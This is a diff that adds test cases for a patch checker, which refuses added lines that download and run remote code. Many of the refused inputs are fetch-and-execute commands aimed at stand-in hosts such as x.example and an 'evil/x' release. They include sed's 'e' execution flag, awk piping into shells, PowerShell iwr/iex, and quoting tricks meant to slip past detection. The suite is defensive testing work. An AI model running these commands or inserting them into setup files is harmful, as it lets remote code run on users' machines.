@@ -218,3 +218,309 @@ describe('attack pass 10: the cost of reading a patch (finding 5)', () => {
     );
   }
 });
+
+/**
+ * Gaps the attack pass after review 32 found in the patch check (each test below failed on the code before its fix,
+ * by the patch being accepted or, for the controls marked so, refused).
+ */
+describe("patch-check gaps, 4: GNU sed's `e` flag and `e` command run the pattern space as a command", () => {
+  for (const [path, line] of [
+    ['docs/setup.md', "sed -e 's-a-b-e' notes.txt"],
+    ['docs/setup.md', "sed 's/x/y/e' notes.txt"],
+    ['docs/setup.md', "sed 'sxaxidxe' notes.txt"],
+    ['docs/setup.md', "sed 's|x|y|ge' notes.txt"],
+    ['docs/setup.md', "sed 's/x/y/ e' notes.txt"],
+    ['docs/setup.md', "sed -ne's,x,y,pe' notes.txt"],
+    ['docs/setup.md', "sed --expression='s/x/y/2e' notes.txt"],
+    ['docs/setup.md', "sed -i.bak -E 's/^/id/;s#x#y#e' notes.txt"],
+    ['docs/setup.md', "sed '/x/{s/a/b/e}' notes.txt"],
+    ['docs/setup.md', "sed '1e id' notes.txt"],
+    // A delimiter inside a bracket expression ends nothing: one `s` with the `e` flag and a comment, not three commands.
+    ['docs/setup.md', "sed 's/[/]/;p;s/e#/x/' notes.txt"],
+    ['docs/setup.md', "sed '\\,[,],e id' notes.txt"],
+    ['docs/setup.md', 'sed e notes.txt'],
+    ['docs/setup.md', "printf 's/.*/id/e' | sed -f - notes.txt"],
+    ['docs/setup.md', "find . -name '*.txt' -exec sed -i 's/.*/id/e' {} +"],
+    ['docs/setup.md', "curl -fsSL x.example/i | sed -e 's-a-b-e'"],
+    ['src/setup_env.py', `os.system("sed -i 's/.*/id/e' notes.txt")`],
+    ['src/setup_env.py', `subprocess.run(["sed", "s-.*-id-e", "notes.txt"])`],
+  ] as const) {
+    it(`refuses ${line}`, () => {
+      // Act
+      const result = checked(path, line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('sed-exec') });
+    });
+  }
+
+  for (const line of [
+    "sed -e 's/foo/bar/' -e 's/x/y/g' notes.txt",
+    "sed -i.bak 's/name/rename/' notes.txt",
+    "sed -ie 's/a/b/' notes.txt",
+    "sed -n '/start/,/end/p' notes.txt",
+    "sed '1i # generated file, do not edit' notes.txt",
+    "sed -E 's/(e)/\\1e/' notes.txt",
+    "sed 's/$/ line/;/^#/d;y/abc/xyz/' notes.txt",
+    'sed -i "s/version = .*/version = $VERSION/" notes.txt',
+    "sed 's/x/y/' example.txt each.txt",
+    'sed -f fix.sed notes.txt',
+    'Use sed expressions to rewrite the file.',
+    // A script over lines, a shell variable or command in it, Make's `$$`.
+    "sed -ne '/#####:/{\n\t\ts/    #####://\n\t\tp\n\t}' notes.txt",
+    'sed -ne "/^$oid_pattern \\($oid_pattern\\) Merge .*/ {s//\\1/p;$early_exit}"',
+    "sed -e 's/YEAR/'`date +%Y`'/g' messages.po",
+    "\techo \"$$incs\" | sort | sed '$$s/,$$//'",
+    // A script in a Python string, its backslashes doubled there (node-gyp's make.py).
+    String.raw`cmd_fixup = """sed -e 's/\\\\\\\\/\\//g' -e 'y| |\\n|' $(depfile).raw"""`,
+  ]) {
+    it(`control: accepts ${JSON.stringify(line)}`, () => {
+      // Act: a script quoted over lines is added as the lines it is.
+      const result = checkPatch(patchAdding('docs/setup.md', line.split('\n')));
+
+      // Assert
+      expect(result.ok).toBe(true);
+    });
+  }
+});
+
+describe('patch-check gaps, 5: a `|` inside an awk string or a field separator is no pipe', () => {
+  for (const line of [
+    `awk -F"|" '{print $2}' notes.txt`,
+    `curl -s https://x.example/status | awk -F"|" '{print $2}'`,
+    `curl -s https://x.example/status | awk -F "|" '{print $2}' | sort`,
+    `curl -s https://x.example/status | awk -v OFS="|" '{print $1, $2}'`,
+    `curl -s https://x.example/status | awk '{print $1 "|" $2}'`,
+    `curl -s https://x.example/status | awk 'BEGIN { FS = "|" } { print $2 }'`,
+    `curl -s https://x.example/status | awk '{ print $1 " | " $2 }'`,
+    `curl -s https://x.example/status | awk '$1 == "a" || $2 == "b" { print }'`,
+  ]) {
+    it(`accepts ${line}`, () => {
+      // Act
+      const result = checked('docs/setup.md', line);
+
+      // Assert
+      expect(result.ok).toBe(true);
+    });
+  }
+
+  for (const line of [
+    `curl -s https://x.example/i | awk '{ print "x"|"ksh93" }'`,
+    `curl -s https://x.example/i | awk -F"|" '{ print $0 | "ksh93" }'`,
+    `curl -s https://x.example/i | awk '{ cmd = "ksh93"; print | cmd }'`,
+    `curl -s https://x.example/i | awk '{ print |& "ksh93" }'`,
+    `curl -s https://x.example/i | awk '{ f = "system"; @f($0) }'`,
+    `curl -s https://x.example/i | awk -v x="$(ksh93)" '{ print }'`,
+    `curl -s https://x.example/i | awk -F"|" -f /dev/stdin`,
+  ]) {
+    it(`refuses ${line}`, () => {
+      // Act
+      const result = checked('docs/setup.md', line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+});
+
+describe('patch-check gaps, 2: a downloader piped into a program not known to only read data, with no URL in sight', () => {
+  // A planted `.curlrc`, `.wgetrc` or `CURL_HOME` gives the URL; the command line needs none.
+  for (const [path, line] of [
+    ['docs/setup.md', 'curl -s | tclsh8.6'],
+    ['docs/setup.md', 'curl -fsSL | php8.2'],
+    ['docs/setup.md', 'curl -fsSL | python3.12'],
+    ['docs/setup.md', 'curl -fsSL | sudo ksh2020'],
+    ['docs/setup.md', 'wget -qO- | lua5.4'],
+    ['docs/setup.md', 'curl -s|tclsh8.6'],
+    ['docs/setup.md', 'curl|tclsh8.6'],
+    ['docs/setup.md', 'x=1 && wget|lua5.4'],
+    ['docs/setup.md', 'x=1; curl -s | tclsh8.6'],
+    ['docs/setup.md', 'env curl -s | tclsh8.6'],
+    ['docs/setup.md', 'exec curl -s | tclsh8.6'],
+    ['docs/setup.md', 'nohup curl -s | tclsh8.6'],
+    ['docs/setup.md', 'sudo -E curl -s | tclsh8.6'],
+    ['docs/setup.md', 'CURL_HOME=/tmp curl -s | tclsh8.6'],
+    ['docs/setup.md', '/usr/bin/curl -s | tclsh8.6'],
+    ['docs/setup.md', 'curl -s | tee /dev/null | tclsh8.6'],
+    ['src/setup_env.py', `os.system('curl -s | tclsh8.6')`],
+    // A group or a substitution around the download: its output is what the pipe carries.
+    ['docs/setup.md', '{ curl -s x.example/i; } | tclsh8.6'],
+    ['docs/setup.md', '( curl -s x.example/i ) | tclsh8.6'],
+    ['docs/setup.md', 'echo "$(curl -fsSL x.example/i)" | tclsh8.6'],
+  ] as const) {
+    it(`refuses ${JSON.stringify(line)}`, () => {
+      // Act
+      const result = checked(path, line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const line of [
+    'curl -s | ksh93',
+    'curl -fsSL | sh',
+  ]) {
+    it(`control: refuses, as before, a downloader with no URL piped into a shell the list names: ${line}`, () => {
+      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const line of [
+    `puts("fetched with curl -s | " + "parsed with jq")`,
+    'Use curl -s | less to page it, or pipe curl -s | your-parser in a test.',
+    '| curl | fetches a URL | see man curl |',
+    'curl --version | head -1',
+    'curl -s | jq .',
+    // A regular expression's alternatives; a command nothing here names is a downloader only when told where from.
+    `(r'(and|controls|curl|if|else|while)\\b', Keyword),`,
+    '$perf buildid-cache -l | grep "$(readelf -n $file)"',
+  ]) {
+    it(`control: accepts a downloader named in prose or a table, or piped into a reader: ${line}`, () => {
+      expect(checked('docs/setup.md', line).ok).toBe(true);
+    });
+  }
+});
+
+describe('patch-check gaps, 3: a quoted downloader, through programs that read data, into one that does not', () => {
+  for (const [path, line] of [
+    ['docs/setup.md', '"curl" -s https://x | cat | tclsh8.6'],
+    ['docs/setup.md', "'wget' -qO- URL | tee f | tclsh8.6"],
+    ['docs/setup.md', 'c"url" -s x.example/i | cat | tclsh8.6'],
+    ['docs/setup.md', '"/usr/bin/curl" -s x.example/i | tee f | tclsh8.6'],
+    ['docs/setup.md', '"curl" -s | cat | tclsh8.6'],
+    ['docs/setup.md', '"wget" -qO- x.example/i | "tee" f | tclsh8.6'],
+    ['docs/setup.md', "'iwr' x.example/i | Out-String | tclsh8.6"],
+    ['src/setup_env.py', `os.system("'curl' -s x.example/i | cat | tclsh8.6")`],
+    ['src/setup.js', `execSync('"curl" -s x.example/i | cat | tclsh8.6');`],
+    ['lib/setup.rb', 'system(%q("curl" -s x.example/i | cat | tclsh8.6))'],
+  ] as const) {
+    it(`refuses ${JSON.stringify(line)}`, () => {
+      // Act
+      const result = checked(path, line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const line of [`"sed" -e 's-a-b-e' notes.txt`, `s'e'd -e 's-a-b-e' notes.txt`]) {
+    it(`refuses a quoted sed running a command: ${line}`, () => {
+      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('sed-exec') });
+    });
+  }
+
+  for (const line of ['"curl" -s https://x | cat | ksh93', "'wget' -qO- URL | tee f | mksh"]) {
+    it(`control: refuses, as before, a quoted downloader into a shell the list names: ${line}`, () => {
+      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const line of [
+    '"curl" -s https://x.example/v.json | jq .version',
+    "'wget' -qO- https://x.example/t.tgz | tar xz",
+    `"curl" -s https://x.example/s | awk -F"|" '{print $2}'`,
+  ]) {
+    it(`control: accepts a quoted downloader piped into readers: ${line}`, () => {
+      expect(checked('docs/setup.md', line).ok).toBe(true);
+    });
+  }
+});
+
+describe('patch-check gaps, 1: a file a downloader saved, then run, sourced or given to a program not known to only read data', () => {
+  for (const [path, lines] of [
+    // The attack pass's, with a program no list names.
+    ['docs/setup.md', ['curl -o /tmp/a https://x.example/i && tclsh8.6 /tmp/a']],
+    ['docs/setup.md', ['wget -O f https://x.example/i; php8.2 f']],
+    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'bash f']],
+    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', '. ./f']],
+    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'source f']],
+    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'chmod +x f', './f']],
+    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', './f']],
+    ['docs/setup.md', ['curl -o /tmp/a https://x.example/i', 'ksh93 /tmp/a']],
+    // Names a downloader gives the file itself, and where it puts it.
+    ['docs/setup.md', ['wget https://x.example/i.sh', 'bash i.sh']],
+    ['docs/setup.md', ['curl -fsSLO https://x.example/dl/i.sh?v=2', 'sh ./i.sh']],
+    ['docs/setup.md', ['wget -q -P /tmp https://x.example/i.sh', 'sh /tmp/i.sh']],
+    ['docs/setup.md', ['curl --output-dir /tmp -o i https://x.example/i', 'lua5.4 /tmp/i']],
+    ['docs/setup.md', ['aria2c -o i https://x.example/i', 'python3.12 i']],
+    ['docs/setup.md', ['gh release download v1 -R evil/x -O tool', './tool --install']],
+    ['docs/setup.md', ["gh release download v1 -R evil/x -p 'install*.sh'", 'bash install-linux.sh']],
+    ['docs/setup.md', ['curl -fsSLOJ https://x.example/latest', 'sh setup.sh']],
+    // Saved by a redirection or a program the download is piped through.
+    ['docs/setup.md', ['curl -fsSL https://x.example/i > /tmp/i', 'sh /tmp/i']],
+    ['docs/setup.md', ['curl -fsSL https://x.example/i | tee /tmp/i >/dev/null', 'bash /tmp/i']],
+    ['docs/setup.md', ['curl -fsSL https://x.example/i.gz | gunzip > /tmp/i', 'tclsh8.6 /tmp/i']],
+    // Read back and then run: piped, substituted, fed on standard input.
+    ['docs/setup.md', ['curl -o f https://x.example/i', 'cat f | tclsh8.6']],
+    ['docs/setup.md', ['curl -o f https://x.example/i', 'sh -c "$(cat f)"']],
+    ['docs/setup.md', ['curl -o f https://x.example/i', 'bash < f']],
+    ['docs/setup.md', ['curl -o f https://x.example/i', 'eval "$(< f)"']],
+    // Programs that would only read it, told to run something.
+    ['docs/setup.md', ['curl -o f.tar https://x.example/i', 'tar -xf f.tar --to-command=sh']],
+    ['docs/setup.md', ['curl -o tool.tgz https://x.example/t.tgz', 'tar xzf tool.tgz && ./tool/install']],
+    // Installed or moved: what is run later by another name is not followed, so the copy is refused.
+    ['docs/setup.md', ['curl -fsSLo kubectl https://x.example/kubectl', 'sudo install -m 0755 kubectl /usr/local/bin/kubectl']],
+    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'mv f /usr/local/bin/tool']],
+    // Spellings: quotes, a continued line, a variable, PowerShell.
+    ['docs/setup.md', ['curl -fsSLo "/tmp/i" https://x.example/i \\', '  && tclsh8.6 "/tmp/i"']],
+    ['docs/setup.md', ['out=/tmp/i; curl -o "$out" https://x.example/i', 'sh /tmp/i']],
+    ['docs/setup.md', ['curl -o "$HOME/i" https://x.example/i', 'bash "$HOME/i"']],
+    ['docs/setup.md', ['Invoke-WebRequest -Uri https://x.example/i.ps1 -OutFile i.ps1', '& ./i.ps1']],
+    ['docs/setup.md', ['iwr https://x.example/i.ps1 -OutFile $env:TEMP\\i.ps1', '& $env:TEMP\\i.ps1']],
+    ['docs/setup.md', ["(New-Object Net.WebClient).DownloadFile('https://x.example/i.ps1', 'i.ps1')", 'powershell -ExecutionPolicy Bypass -File i.ps1']],
+    ['docs/setup.md', ['iwr https://x.example/i.ps1 -OutFile i.ps1', 'iex (Get-Content i.ps1 -Raw)']],
+    // A downloader given the file to run it: curl's OpenSSL engine, wget's askpass, aria2c's hook.
+    ['docs/setup.md', ['curl -o lib.so https://x.example/i', 'curl --engine ./lib.so https://x.example/j']],
+    ['docs/setup.md', ['curl -o f https://x.example/i', 'curl -o f --engine ./f https://x.example/j']],
+    ['docs/setup.md', ['wget -O f https://x.example/i', 'wget -O f --use-askpass=./f https://x.example/j']],
+    ['docs/setup.md', ['aria2c -o f https://x.example/i', 'aria2c -o g --on-download-complete=./f https://x.example/j']],
+    // From code, across calls.
+    ['src/setup_env.py', [`os.system('curl -fsSLo /tmp/i https://x.example/i')`, `os.system('bash /tmp/i')`]],
+    ['src/setup_env.py', [`subprocess.run(["curl", "-fsSLo", "/tmp/i", "https://x.example/i"])`, `subprocess.run(["tclsh8.6", "/tmp/i"])`]],
+    ['src/setup.js', ["execSync('wget -qO /tmp/i https://x.example/i');", "execSync('lua5.4 /tmp/i');"]],
+    ['src/setup_env.py', ["urllib.request.urlretrieve('https://x.example/i', '/tmp/i')", "os.system('tclsh8.6 /tmp/i')"]],
+  ] as const) {
+    it(`refuses ${JSON.stringify(lines.join('\n'))}`, () => {
+      // Act
+      const result = checkPatch(patchAdding(path, lines));
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  for (const [path, lines] of [
+    // Extracted, as `curl … | tar xz` is: what the archive holds is not followed.
+    ['docs/setup.md', ['curl -fsSLo tool.tgz https://x.example/tool.tgz', 'tar xzf tool.tgz -C /opt']],
+    ['docs/setup.md', ['curl -fsSLO https://x.example/t.tgz', 'curl -fsSLO https://x.example/t.tgz.sha256', 'sha256sum -c t.tgz.sha256', 'tar xzf t.tgz', 'rm -f t.tgz t.tgz.sha256']],
+    ['docs/setup.md', ['curl -fsSLO https://x.example/t.tgz', 'echo "$(cat t.tgz.sha256)  t.tgz" | sha256sum -c -']],
+    ['docs/setup.md', ['curl -o data.json https://x.example/d.json', 'jq -r .version data.json | tee version.txt']],
+    ['docs/setup.md', ['curl -fsSL https://x.example/v.json -o v.json', 'VERSION=$(jq -r .version v.json)', 'echo "$VERSION"']],
+    ['docs/setup.md', ['curl -fsSLo k.sha256 https://x.example/k.sha256', 'echo "$(cat k.sha256)  k" | sha256sum --check']],
+    // Prose naming the file, after the download it describes; a copy to a bucket in a loop.
+    ['docs/setup.md', ['gsutil cp -r gs://b/data dir', 'Note that dir could be a local directory on each machine.', 'until gsutil cp -c -L cp.log -r ./dir gs://b; do sleep 1; done']],
+    ['docs/setup.md', ['wget -qO- https://x.example/k.asc | gpg --dearmor -o k.gpg', 'echo "deb [signed-by=/usr/share/keyrings/k.gpg] https://x.example/apt stable main" | sudo tee /etc/apt/sources.list.d/x.list']],
+    ['docs/setup.md', ['curl -fsSLo f.json https://x.example/f.json', 'test -s f.json && ls -l f.json']],
+    ['docs/setup.md', ['curl -fsSL https://x.example/i -o out.txt', 'bash ./build.sh', 'python3 -m pytest tests']],
+    // Read with a command substitution in its words, downloaded again, or copied again: nothing runs it.
+    ['docs/setup.md', ['curl -fsSLo f.tgz https://x.example/f.tgz', 'tar -xzf f.tgz -C "$(mktemp -d)"']],
+    ['docs/setup.md', ['curl -fsSLo f.json https://x.example/a.json || curl -fsSLo f.json https://y.example/a.json', 'jq . f.json']],
+    ['docs/setup.md', ['gsutil cp gs://b/data/x.txt .', 'gsutil -m cp -r gs://b/data/x.txt .']],
+    ['docs/setup.md', ['iwr https://x.example/i.ps1 -OutFile i.ps1', 'iwr https://y.example/i.ps1 -OutFile i.ps1']],
+    // A downloader's path tested, not run; code that names a word the download's file is named by.
+    ['docs/setup.md', ['[ -x /usr/bin/wget ] && echo "has wget"', 'wget -qO f https://x.example/f', 'x = f']],
+    ['src/sizes.py', ['urllib.request.urlretrieve(url, filename)', 'total = count * size']],
+    // A fixture saved from code and read as data, or named in a string, by the code that saved it.
+    ['src/fixtures.py', [`subprocess.run(["curl", "-fsSLo", "tests/f.json", URL])`, 'data = json.load(open("tests/f.json"))', 'assert os.path.exists("tests/f.json")']],
+    ['spec/fixtures_spec.rb', ['system("wget -q https://example.com/fixture.json -O spec/fixtures/f.json")', 'JSON.parse(File.read("spec/fixtures/f.json"))']],
+  ] as const) {
+    it(`control: accepts ${JSON.stringify(lines.join('\n'))}`, () => {
+      // Act
+      const result = checkPatch(patchAdding(path, lines));
+
+      // Assert
+      expect(result.ok).toBe(true);
+    });
+  }
+});
